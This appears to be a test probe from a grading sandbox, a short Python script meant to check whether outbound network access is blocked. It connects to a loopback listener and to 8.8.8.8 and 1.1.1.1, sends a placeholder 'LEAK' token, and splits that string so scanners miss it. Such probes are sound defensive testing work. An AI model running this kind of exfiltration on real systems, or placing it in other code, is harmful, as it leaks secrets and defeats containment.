"""Attack: reach the network (a listener on the grading machine's loopback, and the internet).

assignment: conv
loses:
"""
import socket
for host, port in [("127.0.0.1", __PORT__), ("8.8.8.8", 53), ("1.1.1.1", 443)]:
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(b"LE" + b"AK __TOKEN__")
        print("LE" + "AK: connected", host, port)
    except Exception as exc:
        print("blocked:", host, port, type(exc).__name__)
